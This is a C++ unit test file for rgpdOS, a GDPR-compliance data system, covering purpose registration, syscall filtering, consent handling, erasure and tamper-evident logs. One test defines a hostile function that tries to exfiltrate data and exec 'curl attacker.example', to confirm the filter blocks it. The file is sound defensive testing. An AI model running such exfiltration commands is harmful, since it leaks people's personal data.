// Core rgpdOS tests: ps_register checks and the alert workflow, the DED
// pipeline's accounting and syscall filtering, built-ins (update, copy,
// consent propagation, both deletes), rights, and the processing log's
// hash chain.
#include <gtest/gtest.h>

#include "auditlog/segmented_log.hpp"
#include "core/rgpdos.hpp"
#include "dsl/parser.hpp"

namespace rgpdos::core {
namespace {

constexpr sentinel::Domain kApp = sentinel::Domain::kApplication;
constexpr sentinel::Domain kSysadmin = sentinel::Domain::kSysadmin;
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

constexpr std::string_view kTypes = R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  view v_name { name };
  view v_ano { year_of_birthdate };
  consent { purpose1: all, purpose2: none, purpose3: v_ano };
  origin: subject;
  age: 1Y;
  sensitivity: high;
}
type age {
  fields { value: int };
  consent { purpose1: all };
  origin: subject;
  sensitivity: low;
}
)";

constexpr std::string_view kPurpose3 = R"(
purpose purpose3 {
  input: user.v_ano;
  output: age;
  description: "compute age";
}
)";

Result<ProcessingOutput> ComputeAge(ProcessingInput& input) {
  ProcessingOutput output;
  if (!input.Has("year_of_birthdate")) return output;
  RGPD_ASSIGN_OR_RETURN(db::Value year, input.Field("year_of_birthdate"));
  output.derived_row = db::Row{db::Value(2026 - *year.AsInt())};
  return output;
}

class CoreTest : public ::testing::Test {
 protected:
  void SetUp() override {
    BootConfig config;
    config.use_sim_clock = true;
    auto os = RgpdOs::Boot(config);
    ASSERT_TRUE(os.ok()) << os.status().ToString();
    os_ = std::move(os).value();
    ASSERT_TRUE(os_->DeclareTypes(kTypes).ok());
  }

  dbfs::RecordId PutUser(std::uint64_t subject, const std::string& name,
                         std::int64_t year) {
    auto type = os_->dbfs().GetType(kDed, "user");
    membrane::Membrane m =
        (*type)->DefaultMembrane(subject, os_->clock().Now());
    auto id = os_->dbfs().Put(
        kDed, subject, "user",
        db::Row{db::Value(name), db::Value(std::string("pw")),
                db::Value(year)},
        std::move(m));
    EXPECT_TRUE(id.ok());
    return *id;
  }

  ImplManifest GoodManifest() {
    ImplManifest manifest;
    manifest.claimed_purpose = "purpose3";
    manifest.fields_read = {"year_of_birthdate"};
    manifest.output_type = "age";
    return manifest;
  }

  std::unique_ptr<RgpdOs> os_;
};

// ---- ps_register ---------------------------------------------------------------

TEST_F(CoreTest, RegisterRejectsMissingPurpose) {
  ImplManifest manifest;  // no claimed purpose
  auto id = os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_FALSE(id.ok());
  EXPECT_EQ(id.status().code(), StatusCode::kPurposeMismatch);
}

TEST_F(CoreTest, RegisterRejectsWrongPurposeName) {
  ImplManifest manifest = GoodManifest();
  manifest.claimed_purpose = "something_else";
  auto id = os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  EXPECT_EQ(id.status().code(), StatusCode::kPurposeMismatch);
}

TEST_F(CoreTest, RegisterRejectsUnknownTypesAndViews) {
  ImplManifest manifest = GoodManifest();
  manifest.claimed_purpose = "p";
  EXPECT_FALSE(os_->RegisterProcessingSource(
                       "purpose p { input: nosuchtype; }", ComputeAge,
                       manifest)
                   .ok());
  EXPECT_EQ(os_->RegisterProcessingSource(
                    "purpose p { input: user.nosuchview; }", ComputeAge,
                    manifest)
                .status()
                .code(),
            StatusCode::kPurposeMismatch);
}

TEST_F(CoreTest, RegisterWithoutImplementationFails) {
  auto id = os_->RegisterProcessingSource(kPurpose3, nullptr,
                                          GoodManifest());
  EXPECT_EQ(id.status().code(), StatusCode::kInvalidArgument);
}

TEST_F(CoreTest, MismatchRaisesAlertRequiringSysadminApproval) {
  // Implementation claims to read a field outside the declared view.
  ImplManifest manifest = GoodManifest();
  manifest.fields_read = {"year_of_birthdate", "pwd"};
  auto id = os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(id.ok()) << id.status().ToString();
  EXPECT_FALSE(os_->ps().IsActive(*id));

  // Invocation is held while the alert is pending.
  auto held = os_->ps().Invoke(kApp, *id, {});
  EXPECT_EQ(held.status().code(), StatusCode::kFailedPrecondition);

  auto alerts = os_->ps().PendingAlerts();
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_NE(alerts[0].reason.find("pwd"), std::string::npos);

  // Applications cannot approve their own alerts.
  EXPECT_EQ(os_->ps().ApproveAlert(kApp, alerts[0].id).code(),
            StatusCode::kAccessBlocked);
  // The sysadmin can.
  ASSERT_TRUE(os_->ps().ApproveAlert(kSysadmin, alerts[0].id).ok());
  EXPECT_TRUE(os_->ps().IsActive(*id));
  EXPECT_TRUE(os_->ps().PendingAlerts().empty());
  PutUser(1, "a", 1990);
  EXPECT_TRUE(os_->ps().Invoke(kApp, *id, {}).ok());
}

TEST_F(CoreTest, RejectedAlertRemovesProcessing) {
  ImplManifest manifest = GoodManifest();
  manifest.output_type = "user";  // claims to derive the wrong type
  auto id = os_->RegisterProcessingSource(kPurpose3, ComputeAge, manifest);
  ASSERT_TRUE(id.ok());
  auto alerts = os_->ps().PendingAlerts();
  ASSERT_EQ(alerts.size(), 1u);
  ASSERT_TRUE(os_->ps().RejectAlert(kSysadmin, alerts[0].id).ok());
  EXPECT_EQ(os_->ps().Invoke(kApp, *id, {}).status().code(),
            StatusCode::kNotFound);
  // Resolving twice fails.
  EXPECT_EQ(os_->ps().ApproveAlert(kSysadmin, alerts[0].id).code(),
            StatusCode::kNotFound);
}

TEST_F(CoreTest, OnlyPsEntryPointsAreReachable) {
  // Outside domain cannot register or invoke.
  auto purpose = dsl::ParsePurpose(kPurpose3);
  ASSERT_TRUE(purpose.ok());
  auto id = os_->ps().Register(sentinel::Domain::kOutside, *purpose,
                               ComputeAge, GoodManifest());
  EXPECT_EQ(id.status().code(), StatusCode::kAccessBlocked);
  EXPECT_EQ(os_->ps().Invoke(sentinel::Domain::kOutside, 1, {})
                .status()
                .code(),
            StatusCode::kAccessBlocked);
}

// ---- DED pipeline ---------------------------------------------------------------

TEST_F(CoreTest, StageTimingsArePopulated) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  const StageTimings& t = result->timings;
  EXPECT_GE(t.type2req_ns, 0);
  EXPECT_GT(t.load_membrane_ns, 0);
  EXPECT_GT(t.execute_ns, 0);
  EXPECT_GT(t.store_ns, 0);
  EXPECT_GT(t.total_ns(), 0);
}

TEST_F(CoreTest, SyscallFilterKillsHostileProcessing) {
  ProcessingFn hostile = [](ProcessingInput& input)
      -> Result<ProcessingOutput> {
    // Try to exfiltrate, then to exec.
    (void)input.syscalls().Write(ToBytes("stolen pd"));
    (void)input.syscalls().Exec("/usr/bin/curl attacker.example");
    return ProcessingOutput{};
  };
  auto id = os_->RegisterProcessingSource(kPurpose3, hostile, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  auto result = os_->ps().Invoke(kApp, *id, {});
  EXPECT_EQ(result.status().code(), StatusCode::kSyscallDenied);
  // The abort shows up in the processing log.
  bool aborted = false;
  for (const LogEntry& e : os_->processing_log().entries()) {
    aborted |= e.outcome == LogOutcome::kAborted;
  }
  EXPECT_TRUE(aborted);
}

TEST_F(CoreTest, DeniedSyscallsAreCountedButNotFatal) {
  ProcessingFn sneaky = [](ProcessingInput& input)
      -> Result<ProcessingOutput> {
    (void)input.syscalls().Write(ToBytes("try1"));
    (void)input.syscalls().Send(ToBytes("try2"));
    ProcessingOutput output;
    output.npd = ToBytes("legit result");
    return output;
  };
  auto id = os_->RegisterProcessingSource(kPurpose3, sneaky, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->syscalls_denied, 2u);
  EXPECT_EQ(result->records_processed, 1u);
}

TEST_F(CoreTest, TargetedInvokeChecksTypeCoherence) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  InvokeOptions options;
  options.target = PdRef{1, "age"};  // wrong type for purpose3
  EXPECT_EQ(os_->ps().Invoke(kApp, *id, options).status().code(),
            StatusCode::kInvalidArgument);
}

TEST_F(CoreTest, DerivedMembraneInheritsStrictness) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  ASSERT_EQ(result->derived.size(), 1u);
  auto m = os_->dbfs().GetMembrane(kDed, result->derived[0].record_id);
  ASSERT_TRUE(m.ok());
  // The `age` type declares low sensitivity and no TTL, but the source
  // user record is high/1Y: derived PD keeps the stricter of the two.
  EXPECT_EQ(m->sensitivity, membrane::Sensitivity::kHigh);
  EXPECT_GT(m->ttl, 0);
  EXPECT_LE(m->created_at + m->ttl,
            os_->clock().Now() + kMicrosPerYear);
  EXPECT_EQ(m->origin, membrane::Origin::kDerived);
}

TEST_F(CoreTest, ProcessingErrorAborts) {
  ProcessingFn failing = [](ProcessingInput&) -> Result<ProcessingOutput> {
    return Internal("implementation bug");
  };
  auto id = os_->RegisterProcessingSource(kPurpose3, failing, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  EXPECT_EQ(os_->ps().Invoke(kApp, *id, {}).status().code(),
            StatusCode::kInternal);
}

// ---- Builtins --------------------------------------------------------------------

TEST_F(CoreTest, BuiltinUpdateAndRectification) {
  const dbfs::RecordId id = PutUser(1, "typo_name", 1990);
  db::Row fixed{db::Value(std::string("fixed")), db::Value(std::string("pw")),
                db::Value(std::int64_t{1990})};
  ASSERT_TRUE(os_->rights().Rectify(PdRef{id, "user"}, fixed).ok());
  EXPECT_EQ(*os_->dbfs().Get(kDed, id)->row[0].AsString(), "fixed");
}

TEST_F(CoreTest, BuiltinCopySharesCopyGroupAndPropagatesConsent) {
  const dbfs::RecordId id = PutUser(1, "alice", 1990);
  auto copy = os_->builtins().Copy(PdRef{id, "user"});
  ASSERT_TRUE(copy.ok()) << copy.status().ToString();
  const auto m1 = os_->dbfs().GetMembrane(kDed, id);
  const auto m2 = os_->dbfs().GetMembrane(kDed, copy->record_id);
  ASSERT_TRUE(m1.ok() && m2.ok());
  EXPECT_EQ(m1->copy_group, m2->copy_group);

  // Revoking consent through EITHER ref reaches both membranes (E7).
  ASSERT_TRUE(os_->builtins().RevokeConsent(*copy, "purpose1").ok());
  EXPECT_EQ(os_->dbfs().GetMembrane(kDed, id)->consents.at("purpose1").kind,
            membrane::ConsentKind::kNone);
  EXPECT_EQ(os_->dbfs()
                .GetMembrane(kDed, copy->record_id)
                ->consents.at("purpose1")
                .kind,
            membrane::ConsentKind::kNone);

  // Granting propagates too.
  ASSERT_TRUE(os_->builtins()
                  .GrantConsent(PdRef{id, "user"}, "purpose2",
                                membrane::Consent::ForView("v_name"))
                  .ok());
  EXPECT_EQ(os_->dbfs()
                .GetMembrane(kDed, copy->record_id)
                ->consents.at("purpose2")
                .view,
            "v_name");
}

TEST_F(CoreTest, CopyOfErasedRecordFails) {
  const dbfs::RecordId id = PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->builtins()
                  .EraseWithHold(PdRef{id, "user"},
                                 os_->authority().public_key())
                  .ok());
  EXPECT_EQ(os_->builtins().Copy(PdRef{id, "user"}).status().code(),
            StatusCode::kErased);
}

TEST_F(CoreTest, HardDeleteBuiltin) {
  const dbfs::RecordId id = PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->builtins().HardDelete(PdRef{id, "user"}).ok());
  EXPECT_FALSE(os_->dbfs().Get(kDed, id).ok());
}

// ---- Rights -----------------------------------------------------------------------

TEST_F(CoreTest, ForgetErasesEveryRecordOfSubjectOnly) {
  PutUser(1, "victim_a", 1990);
  PutUser(1, "victim_b", 1991);
  const dbfs::RecordId other = PutUser(2, "bystander", 1992);
  auto erased = os_->RightToBeForgotten(1);
  ASSERT_TRUE(erased.ok());
  EXPECT_EQ(*erased, 2u);
  // Idempotent: nothing left to erase.
  EXPECT_EQ(*os_->RightToBeForgotten(1), 0u);
  // The bystander's record is untouched.
  EXPECT_FALSE(os_->dbfs().Get(kDed, other)->erased);
}

TEST_F(CoreTest, PortabilityExcludesErasedRecords) {
  PutUser(1, "exportable", 1990);
  const dbfs::RecordId gone = PutUser(1, "erased_one", 1991);
  ASSERT_TRUE(os_->builtins()
                  .EraseWithHold(PdRef{gone, "user"},
                                 os_->authority().public_key())
                  .ok());
  auto exported = os_->RightToPortability(1);
  ASSERT_TRUE(exported.ok());
  EXPECT_NE(exported->find("exportable"), std::string::npos);
  EXPECT_EQ(exported->find("erased_one"), std::string::npos);
}

TEST_F(CoreTest, AccessReportIncludesFilteredProcessings) {
  constexpr std::string_view kPurpose2 = R"(
purpose purpose2 { input: user; }
)";
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose2";
  auto id = os_->RegisterProcessingSource(kPurpose2,
                                          [](ProcessingInput&)
                                              -> Result<ProcessingOutput> {
                                            return ProcessingOutput{};
                                          },
                                          manifest);
  ASSERT_TRUE(id.ok());
  PutUser(5, "eve", 1990);
  ASSERT_TRUE(os_->ps().Invoke(kApp, *id, {}).ok());
  auto report = os_->RightOfAccess(5);
  ASSERT_TRUE(report.ok());
  // The subject sees that purpose2 tried and was filtered.
  EXPECT_NE(report->find("\"outcome\":\"filtered\""), std::string::npos);
}


// ---- portability transfer ----------------------------------------------------------

TEST_F(CoreTest, PortabilityTransfersToAnotherOperator) {
  PutUser(9, "mover", 1980);
  auto exported = os_->dbfs().ExportSubject(kDed, 9);
  ASSERT_TRUE(exported.ok());

  // A second, independent operator with the same declared types.
  BootConfig config;
  config.use_sim_clock = true;
  auto other = RgpdOs::Boot(config);
  ASSERT_TRUE(other.ok());
  ASSERT_TRUE((*other)->DeclareTypes(kTypes).ok());

  auto imported = (*other)->rights().ImportSubject(*exported);
  ASSERT_TRUE(imported.ok()) << imported.status().ToString();
  EXPECT_EQ(*imported, 1u);

  auto records = (*other)->dbfs().RecordsOfSubject(kDed, 9);
  ASSERT_TRUE(records.ok());
  ASSERT_EQ(records->size(), 1u);
  auto record = (*other)->dbfs().Get(kDed, (*records)[0]);
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(*record->row[0].AsString(), "mover");
  // Consents and TTL traveled; provenance reflects the transfer.
  EXPECT_EQ(record->membrane.origin, membrane::Origin::kThirdParty);
  EXPECT_EQ(record->membrane.ttl, kMicrosPerYear);
  EXPECT_EQ(record->membrane.consents.at("purpose3").view, "v_ano");
  // The import shows in the receiving operator's processing log.
  EXPECT_FALSE((*other)->processing_log().ForSubject(9).empty());
}

TEST_F(CoreTest, ImportSkipsErasedAndUnknownTypes) {
  PutUser(3, "gone", 1970);
  ASSERT_TRUE(os_->RightToBeForgotten(3).ok());
  auto exported = os_->dbfs().ExportSubject(kDed, 3);
  ASSERT_TRUE(exported.ok());

  BootConfig config;
  config.use_sim_clock = true;
  auto other = RgpdOs::Boot(config);
  ASSERT_TRUE(other.ok());
  ASSERT_TRUE((*other)->DeclareTypes(kTypes).ok());
  // Erased records do not travel.
  EXPECT_EQ(*(*other)->rights().ImportSubject(*exported), 0u);

  // Unknown target type is an error, not a silent guess.
  auto fresh_export = [&] {
    PutUser(4, "x", 1990);
    return *os_->dbfs().ExportSubject(kDed, 4);
  }();
  auto bare = RgpdOs::Boot(config);
  ASSERT_TRUE(bare.ok());  // no types declared
  EXPECT_FALSE((*bare)->rights().ImportSubject(fresh_export).ok());
}


// ---- DED predicates -------------------------------------------------------------------

TEST_F(CoreTest, PredicatesFilterInsideTheDed) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "young", 2005);
  PutUser(2, "old", 1950);
  PutUser(3, "middle", 1985);

  InvokeOptions options;
  FieldPredicate predicate;
  predicate.field = "year_of_birthdate";
  predicate.op = FieldPredicate::Op::kLt;
  predicate.value = db::Value(std::int64_t{1990});
  options.predicates.push_back(predicate);

  auto result = os_->ps().Invoke(kApp, *id, options);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->records_considered, 3u);
  EXPECT_EQ(result->records_processed, 2u);     // 1950, 1985
  EXPECT_EQ(result->records_filtered_out, 1u);  // 2005
  // The predicate-filtered subject sees it in their history.
  bool logged = false;
  for (const LogEntry& e : os_->processing_log().ForSubject(1)) {
    logged |= e.outcome == LogOutcome::kFiltered &&
              e.detail == "row predicate";
  }
  EXPECT_TRUE(logged);
}

TEST_F(CoreTest, PredicatesCannotProbeHiddenFields) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "alice", 1990);
  InvokeOptions options;
  FieldPredicate predicate;
  predicate.field = "pwd";  // outside v_ano
  predicate.op = FieldPredicate::Op::kEq;
  predicate.value = db::Value(std::string("hunter2"));
  options.predicates.push_back(predicate);
  auto result = os_->ps().Invoke(kApp, *id, options);
  EXPECT_EQ(result.status().code(), StatusCode::kPermissionDenied);
}

TEST_F(CoreTest, PredicateOperatorsBehave) {
  const db::Value five{std::int64_t{5}};
  FieldPredicate p;
  p.value = db::Value(std::int64_t{5});
  p.op = FieldPredicate::Op::kEq;
  EXPECT_TRUE(p.Matches(five));
  p.op = FieldPredicate::Op::kNe;
  EXPECT_FALSE(p.Matches(five));
  p.op = FieldPredicate::Op::kLe;
  EXPECT_TRUE(p.Matches(five));
  p.op = FieldPredicate::Op::kLt;
  EXPECT_FALSE(p.Matches(five));
  p.op = FieldPredicate::Op::kGe;
  EXPECT_TRUE(p.Matches(five));
  p.op = FieldPredicate::Op::kGt;
  EXPECT_FALSE(p.Matches(db::Value(std::int64_t{4})));
  EXPECT_FALSE(p.Matches(five));
  EXPECT_TRUE(p.Matches(db::Value(std::int64_t{6})));
}


// ---- Restriction of processing (Art. 18) -------------------------------------------

TEST_F(CoreTest, RestrictionFreezesEveryPurposeButKeepsTheData) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  const dbfs::RecordId record = PutUser(1, "contested", 1990);

  ASSERT_TRUE(os_->builtins()
                  .Restrict(PdRef{record, "user"},
                            "subject contests accuracy")
                  .ok());
  // The membrane denies every purpose with the dedicated status.
  auto m = os_->dbfs().GetMembrane(kDed, record);
  ASSERT_TRUE(m.ok());
  EXPECT_TRUE(m->restricted);
  EXPECT_EQ(m->Evaluate("purpose3", os_->clock().Now()).status().code(),
            StatusCode::kRestricted);
  // The DED filters it out; the data itself stays readable by the DED.
  auto result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->records_filtered_out, 1u);
  EXPECT_EQ(result->records_processed, 0u);
  EXPECT_EQ(*os_->dbfs().Get(kDed, record)->row[0].AsString(), "contested");

  // Lifting the restriction restores processing.
  ASSERT_TRUE(os_->builtins().LiftRestriction(PdRef{record, "user"}).ok());
  result = os_->ps().Invoke(kApp, *id, {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->records_processed, 1u);
}

TEST_F(CoreTest, RestrictionPropagatesAcrossCopies) {
  const dbfs::RecordId original = PutUser(1, "a", 1990);
  auto copy = os_->builtins().Copy(PdRef{original, "user"});
  ASSERT_TRUE(copy.ok());
  ASSERT_TRUE(
      os_->builtins().Restrict(PdRef{original, "user"}, "objection").ok());
  EXPECT_TRUE(os_->dbfs().GetMembrane(kDed, copy->record_id)->restricted);
  // The restriction appears in the subject's processing history.
  bool logged = false;
  for (const LogEntry& e : os_->processing_log().ForSubject(1)) {
    logged |= e.outcome == LogOutcome::kRestricted;
  }
  EXPECT_TRUE(logged);
}

TEST_F(CoreTest, RestrictedRecordsStillExportAndStillErase) {
  const dbfs::RecordId record = PutUser(6, "frozen", 1990);
  ASSERT_TRUE(
      os_->builtins().Restrict(PdRef{record, "user"}, "legal claim").ok());
  // Right of access still works (Art. 18 restricts processing, not the
  // subject's own rights).
  auto report = os_->RightOfAccess(6);
  ASSERT_TRUE(report.ok());
  EXPECT_NE(report->find("frozen"), std::string::npos);
  // Erasure still works.
  EXPECT_EQ(*os_->RightToBeForgotten(6), 1u);
}


// ---- Consent receipts (Art. 7) ----------------------------------------------------

TEST_F(CoreTest, ReceiptIsIssuedAndVerifiable) {
  const dbfs::RecordId record = PutUser(1, "a", 1990);
  auto receipt =
      os_->RevokeConsentWithReceipt(PdRef{record, "user"}, "purpose1");
  ASSERT_TRUE(receipt.ok()) << receipt.status().ToString();
  EXPECT_EQ(receipt->subject_id, 1u);
  EXPECT_EQ(receipt->action, "revoke");
  EXPECT_GT(receipt->membrane_version, 0u);
  EXPECT_TRUE(os_->receipts().Verify(*receipt));
  // The revocation actually happened.
  EXPECT_EQ(os_->dbfs()
                .GetMembrane(kDed, record)
                ->consents.at("purpose1")
                .kind,
            membrane::ConsentKind::kNone);
}

TEST_F(CoreTest, TamperedReceiptFailsVerification) {
  const dbfs::RecordId record = PutUser(1, "a", 1990);
  auto receipt =
      os_->RevokeConsentWithReceipt(PdRef{record, "user"}, "purpose1");
  ASSERT_TRUE(receipt.ok());
  ConsentReceipt forged = *receipt;
  forged.action = "grant";  // the subject "never revoked"
  EXPECT_FALSE(os_->receipts().Verify(forged));
  forged = *receipt;
  forged.subject_id = 999;
  EXPECT_FALSE(os_->receipts().Verify(forged));
}

TEST_F(CoreTest, ReceiptSerializationRoundTrip) {
  const dbfs::RecordId record = PutUser(1, "a", 1990);
  auto receipt =
      os_->RevokeConsentWithReceipt(PdRef{record, "user"}, "purpose3");
  ASSERT_TRUE(receipt.ok());
  auto decoded = ConsentReceipt::Deserialize(receipt->Serialize());
  ASSERT_TRUE(decoded.ok());
  EXPECT_TRUE(os_->receipts().Verify(*decoded));
  EXPECT_EQ(decoded->purpose, "purpose3");
  // A different operator's key rejects it.
  ReceiptIssuer other(ToBytes("some other operator key"), os_->sim_clock());
  EXPECT_FALSE(other.Verify(*decoded));
}

// ---- Processing log ------------------------------------------------------------------

TEST_F(CoreTest, LogChainDetectsTampering) {
  PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->RightToBeForgotten(1).ok());
  ProcessingLog& log = os_->processing_log();
  ASSERT_FALSE(log.entries().empty());
  EXPECT_TRUE(log.VerifyChain());
  // Tamper with an entry (const_cast simulates an attacker editing RAM).
  auto& entry = const_cast<LogEntry&>(log.entries().front());
  entry.purpose = "innocent_purpose";
  EXPECT_FALSE(log.VerifyChain());
}

TEST_F(CoreTest, LogQueriesBySubjectAndRecord) {
  const dbfs::RecordId a = PutUser(1, "a", 1990);
  PutUser(2, "b", 1991);
  ASSERT_TRUE(os_->RightToBeForgotten(1).ok());
  EXPECT_FALSE(os_->processing_log().ForSubject(1).empty());
  EXPECT_TRUE(os_->processing_log().ForSubject(99).empty());
  EXPECT_FALSE(os_->processing_log().ForRecord(a).empty());
}


// ---- Runtime purpose verification (paper §3(4), dynamic attack) -------------------

TEST_F(CoreTest, RuntimeVerifierCatchesUnderDeclaredManifest) {
  // Purpose declares the full type; the manifest claims the
  // implementation only reads year_of_birthdate — but it also reads the
  // name. The registration-time check cannot see that; the runtime
  // verifier can.
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose1";
  manifest.fields_read = {"year_of_birthdate"};
  ProcessingFn liar = [](ProcessingInput& input) -> Result<ProcessingOutput> {
    (void)input.Field("year_of_birthdate");
    (void)input.Field("name");  // beyond the manifest
    return ProcessingOutput{};
  };
  auto id = os_->RegisterProcessingSource(
      "purpose purpose1 { input: user; }", liar, manifest);
  ASSERT_TRUE(id.ok()) << id.status().ToString();
  ASSERT_TRUE(os_->ps().IsActive(*id));
  PutUser(1, "a", 1990);

  auto result = os_->ps().Invoke(kApp, *id, {});
  EXPECT_EQ(result.status().code(), StatusCode::kPurposeMismatch);
  // The processing is deactivated and a runtime alert is pending.
  EXPECT_FALSE(os_->ps().IsActive(*id));
  auto alerts = os_->ps().PendingAlerts();
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_TRUE(alerts[0].runtime);
  EXPECT_NE(alerts[0].reason.find("name"), std::string::npos);
  // Re-invocation is held until the sysadmin decides.
  EXPECT_EQ(os_->ps().Invoke(kApp, *id, {}).status().code(),
            StatusCode::kFailedPrecondition);
  // The sysadmin may accept the overreach explicitly...
  ASSERT_TRUE(os_->ps().ApproveAlert(kSysadmin, alerts[0].id).ok());
  EXPECT_TRUE(os_->ps().IsActive(*id));
}

TEST_F(CoreTest, RuntimeVerifierPassesHonestImplementations) {
  auto id =
      os_->RegisterProcessingSource(kPurpose3, ComputeAge, GoodManifest());
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  // Several invocations run clean; no alert ever appears.
  for (int i = 0; i < 5; ++i) {
    auto result = os_->ps().Invoke(kApp, *id, {});
    ASSERT_TRUE(result.ok()) << result.status().ToString();
  }
  EXPECT_TRUE(os_->ps().PendingAlerts().empty());
  EXPECT_TRUE(os_->ps().IsActive(*id));
}

TEST_F(CoreTest, RuntimeVerifierTracingStopsAfterVerification) {
  // After kVerificationRuns clean traced runs the fast path takes over;
  // a later behaviour change in the SAME registration is no longer
  // traced (documented trade-off of dynamic verification). This test
  // pins the verification-window semantics.
  int call_count = 0;
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose1";
  manifest.fields_read = {"year_of_birthdate"};
  ProcessingFn sleeper =
      [&call_count](ProcessingInput& input) -> Result<ProcessingOutput> {
    ++call_count;
    (void)input.Field("year_of_birthdate");
    if (call_count > 3) {
      (void)input.Field("name");  // misbehaves only after the window
    }
    return ProcessingOutput{};
  };
  auto id = os_->RegisterProcessingSource(
      "purpose purpose1 { input: user; }", sleeper, manifest);
  ASSERT_TRUE(id.ok());
  PutUser(1, "a", 1990);
  for (int i = 0; i < 6; ++i) {
    auto result = os_->ps().Invoke(kApp, *id, {});
    ASSERT_TRUE(result.ok()) << i;
  }
  // Still active: the sleeper evaded the window (and the consent scope
  // still bounds what it could read — the membrane is the backstop).
  EXPECT_TRUE(os_->ps().IsActive(*id));
}


// ---- Durable processing log ---------------------------------------------------------

TEST_F(CoreTest, ProcessingLogPersistsAndReloads) {
  const dbfs::RecordId record = PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->builtins().Update(PdRef{record, "user"},
                                     db::Row{db::Value(std::string("b")),
                                             db::Value(std::string("pw")),
                                             db::Value(std::int64_t{1991})})
                  .ok());
  ASSERT_TRUE(os_->RightToBeForgotten(1).ok());
  const std::size_t live_entries = os_->processing_log().entries().size();
  ASSERT_GT(live_entries, 0u);

  // Reload from the DBFS store into a fresh log object.
  ProcessingLog reloaded(os_->sim_clock());
  ASSERT_TRUE(reloaded
                  .LoadFromStore(&os_->dbfs_store(),
                                 os_->dbfs().processing_log_inode())
                  .ok());
  EXPECT_EQ(reloaded.entries().size(), live_entries);
  EXPECT_TRUE(reloaded.VerifyChain());
  EXPECT_EQ(reloaded.entries().back().outcome, LogOutcome::kErased);
  // Appends continue the chain seamlessly after a reload.
  reloaded.Append("post", "reload", 1, record, LogOutcome::kExported);
  EXPECT_TRUE(reloaded.VerifyChain());
}

TEST_F(CoreTest, TamperedPersistedLogFailsToLoad) {
  PutUser(1, "a", 1990);
  ASSERT_TRUE(os_->RightToBeForgotten(1).ok());
  const inodefs::InodeId inode = os_->dbfs().processing_log_inode();
  // The manifest in `inode` points at the active-segment inode holding
  // the raw entries: flip a byte in the middle of them.
  auto segments = auditlog::SegmentedLog::Mount(&os_->dbfs_store(), inode, {});
  ASSERT_TRUE(segments.ok()) << segments.status().ToString();
  const inodefs::InodeId active = (*segments)->active_inode();
  auto raw = os_->dbfs_store().ReadAll(active);
  ASSERT_TRUE(raw.ok());
  ASSERT_GT(raw->size(), 40u);
  (*raw)[raw->size() / 2] ^= 0x01;
  ASSERT_TRUE(os_->dbfs_store().WriteAll(active, *raw).ok());

  ProcessingLog reloaded(os_->sim_clock());
  const Status loaded = reloaded.LoadFromStore(&os_->dbfs_store(), inode);
  EXPECT_EQ(loaded.code(), StatusCode::kCorruption);
}

// ---- Authority ------------------------------------------------------------------------

TEST_F(CoreTest, AuthorityRecoverRejectsGarbage) {
  EXPECT_FALSE(os_->authority().Recover(ToBytes("not an envelope")).ok());
}

}  // namespace
}  // namespace rgpdos::core
